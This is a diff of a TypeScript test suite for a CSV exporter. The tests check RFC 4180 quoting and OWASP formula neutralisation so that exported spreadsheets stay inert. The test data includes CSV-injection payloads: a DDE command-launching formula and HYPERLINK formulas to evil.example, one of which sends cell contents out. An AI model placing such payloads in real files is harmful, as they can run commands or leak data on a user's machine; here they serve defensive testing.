@@ -40,7 +40,7 @@ const statusOptions = [
 /** The customer cell of a one-row file, as written and as a spreadsheet reads it back. */
 function customerCell(name: string): { written: string; read: string } {
   const csv = toDeliveriesCsv([delivery({ customerBusinessPartnerName: name })], customer);
-  const written = csv.slice(csv.indexOf('\r\n') + 2 + 'DLV-2026-004711,'.length, -2);
+  const written = csv.slice(csv.indexOf('\r\n') + 2 + '"DLV-2026-004711",'.length, -2);
   return { written, read: parseCsv(csv)[1]![1]! };
 }
 
@@ -52,21 +52,21 @@ describe('toDeliveriesCsv: the file layout (RFC 4180)', () => {
       { statusOptions },
     );
     expect(csv).toBe(
-      'Code,Tenant,Courier,Warehouse,Customer,DU qty,Pallets,Status,Inserted\r\n' +
-        'DLV-2026-004711,Northwind,DHL,Berlin Nord,Acme GmbH,12,2,Delivered,2026-11-02T08:30:00.000Z\r\n' +
-        'DLV-2026-004712,Northwind,DHL,Berlin Nord,Acme GmbH,3,2,Delivered,2026-11-02T08:30:00.000Z\r\n',
+      '"Code","Tenant","Courier","Warehouse","Customer","DU qty","Pallets","Status","Inserted"\r\n' +
+        '"DLV-2026-004711","Northwind","DHL","Berlin Nord","Acme GmbH",12,2,"Delivered","2026-11-02T08:30:00.000Z"\r\n' +
+        '"DLV-2026-004712","Northwind","DHL","Berlin Nord","Acme GmbH",3,2,"Delivered","2026-11-02T08:30:00.000Z"\r\n',
     );
     expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
   });
 
   it('writes the header row alone for no deliveries, and nothing at all for no columns', () => {
-    expect(toDeliveriesCsv([], customer)).toBe('Code,Customer\r\n');
+    expect(toDeliveriesCsv([], customer)).toBe('"Code","Customer"\r\n');
     expect(parseCsv(toDeliveriesCsv([], customer))).toEqual([['Code', 'Customer']]);
     expect(toDeliveriesCsv([], [])).toBe('\r\n');
   });
 
   it('carries no byte order mark: that is the file step', () => {
-    expect(toDeliveriesCsv([delivery()], customer).charCodeAt(0)).toBe('C'.charCodeAt(0));
+    expect(toDeliveriesCsv([delivery()], customer).charCodeAt(0)).toBe('"'.charCodeAt(0));
   });
 
   it.each([
@@ -80,8 +80,17 @@ describe('toDeliveriesCsv: the file layout (RFC 4180)', () => {
     expect(customerCell(name)).toEqual({ written, read: name });
   });
 
-  it('leaves plain fields unquoted, spaces and semicolons included', () => {
-    expect(customerCell(' Acme; Nord ')).toEqual({ written: ' Acme; Nord ', read: ' Acme; Nord ' });
+  it('quotes every text field, plain ones too (OWASP); numbers and booleans stay bare', () => {
+    expect(customerCell(' Acme Nord ')).toEqual({ written: '" Acme Nord "', read: ' Acme Nord ' });
+    const csv = toDeliveriesCsv(
+      [delivery({ fragile: true })],
+      [
+        { id: 'duQty', label: 'DU qty' },
+        { id: 'fragile', label: 'Fragile' },
+        { id: 'note', label: 'Note' },
+      ],
+    );
+    expect(csv).toBe('"DU qty","Fragile","Note"\r\n12,true,\r\n');
   });
 
   it.each([
@@ -91,7 +100,7 @@ describe('toDeliveriesCsv: the file layout (RFC 4180)', () => {
     ['emoji (astral plane)', 'Fast 🚚💨 Ltd'],
     ['combining marks', 'Cafe\u0301'],
   ])('keeps %s exactly', (_, name) => {
-    expect(customerCell(name)).toEqual({ written: name, read: name });
+    expect(customerCell(name)).toEqual({ written: `"${name}"`, read: name });
   });
 
   it('labels header cells with text, quoted and neutralised like any cell', () => {
@@ -102,7 +111,7 @@ describe('toDeliveriesCsv: the file layout (RFC 4180)', () => {
         { id: 'duQty', label: '-Qty' },
       ],
     );
-    expect(csv).toBe('"Code, ""primary""",\'-Qty\r\n');
+    expect(csv).toBe('"Code, ""primary""","\'-Qty"\r\n');
   });
 });
 
@@ -180,33 +189,54 @@ describe('toDeliveriesCsv: values', () => {
   });
 
   it('keeps an empty string empty', () => {
-    expect(customerCell('')).toEqual({ written: '', read: '' });
+    expect(customerCell('')).toEqual({ written: '""', read: '' });
   });
 });
 
 describe('toDeliveriesCsv: formula neutralisation (OWASP)', () => {
+  // The README's table: what goes in, the field written, and why.
   it.each([
-    ['=HYPERLINK(...)', '=HYPERLINK("https://evil.example/?x="&A1,"Click")'],
-    ['a leading +', '+1'],
-    ['a leading -', '-2+3'],
-    ['a leading @', '@SUM(A1:A9)'],
-    ['a leading tab', '\t=1+1'],
-    ['a leading carriage return', '\r=1+1'],
-    ['DDE', "=cmd|' /C calc'!A0"],
-  ])('prefixes %s with a quote', (_, name) => {
-    const { read } = customerCell(name);
-    expect(read).toBe(`'${name}`);
-  });
-
-  it('quotes a neutralised cell when it also needs quoting', () => {
-    expect(customerCell('=HYPERLINK("x","y")').written).toBe('"\'=HYPERLINK(""x"",""y"")"');
+    [
+      'a formula',
+      '=HYPERLINK("https://evil.example","Click")',
+      `"'=HYPERLINK(""https://evil.example"",""Click"")"`,
+    ],
+    ['DDE', "=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
+    ['a leading +', '+1', `"'+1"`],
+    ['a leading -', '-2+3', `"'-2+3"`],
+    ['a leading @', '@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
+    [
+      'a formula after ";" (de-DE Excel splits there)',
+      "x;=cmd|' /C calc'!A0",
+      `"x;'=cmd|' /C calc'!A0"`,
+    ],
+    ['a formula after ","', 'a,=1+1', `"a,'=1+1"`],
+    ['a formula after a tab (a paste splits there)', 'a\t=1+1', `"a\t'=1+1"`],
+    ['a formula after a line feed', '\n=1+1', `"\n'=1+1"`],
+    ['a leading space', ' =1+1', `"' =1+1"`],
+    ['a leading NUL', '\u0000=1+1', `"'\u0000=1+1"`],
+    ['a leading zero-width space', '\u200b=1+1', `"'\u200b=1+1"`],
+    ['a leading tab', '\t=1+1', `"'\t'=1+1"`],
+    ['a leading carriage return', '\r=1+1', `"'\r'=1+1"`],
+    ['a full-width =', '＝1+1', `"'＝1+1"`],
+    ['a full-width +', '＋1', `"'＋1"`],
+    ['a full-width -', '－1', `"'－1"`],
+    ['a full-width @', '＠SUM(1)', `"'＠SUM(1)"`],
+    ['a minus sign', '\u22121', `"'\u22121"`],
+    ['a negative number as text', 'x;-2', `"x;'-2"`],
+  ])('writes %s inert', (_, name, written) => {
+    expect(customerCell(name)).toEqual({
+      written,
+      read: written.slice(1, -1).replaceAll('""', '"'),
+    });
   });
 
   it.each([
     ['a formula character later on', 'Acme = Nord'],
-    ['a leading space', ' =1+1'],
     ['a leading quote', "'quoted"],
     ['a leading digit', '1+1'],
+    ['a separator before harmless text', 'Hafen; Nord, Tor\t3'],
+    ['a tab before harmless text, mid-field', 'a\tb'],
   ])('leaves text with %s alone', (_, name) => {
     expect(customerCell(name).read).toBe(name);
   });
@@ -225,17 +255,22 @@ describe('toDeliveriesCsv: formula neutralisation (OWASP)', () => {
 });
 
 describe('neutraliseFormula and quoteCsvField', () => {
-  it('neutralises exactly = + - @ tab and CR at the start', () => {
-    const starts = ['=', '+', '-', '@', '\t', '\r'];
-    for (const start of starts) expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
+  it('prefixes each piece that would start a formula, and a leading tab or CR', () => {
+    for (const start of ['=', '+', '-', '@', '＝', ' =', '\u0000+']) {
+      expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
+    }
+    expect(neutraliseFormula('\tx')).toBe("'\tx");
+    expect(neutraliseFormula('\rx')).toBe("'\rx");
     for (const start of ['a', '1', ' ', '\n', "'", '#', '']) {
       expect(neutraliseFormula(`${start}x`)).toBe(`${start}x`);
     }
+    expect(neutraliseFormula('a;+b,-c\t@d\n=e')).toBe("a;'+b,'-c\t'@d\n'=e");
     expect(neutraliseFormula('')).toBe('');
   });
 
-  it('quotes only for ", comma, CR and LF', () => {
-    expect(quoteCsvField('a;b\tc')).toBe('a;b\tc');
+  it('quotes every field, doubling its quotes', () => {
+    expect(quoteCsvField('a;b\tc')).toBe('"a;b\tc"');
     expect(quoteCsvField('a"b')).toBe('"a""b"');
+    expect(quoteCsvField('')).toBe('""');
   });
 });
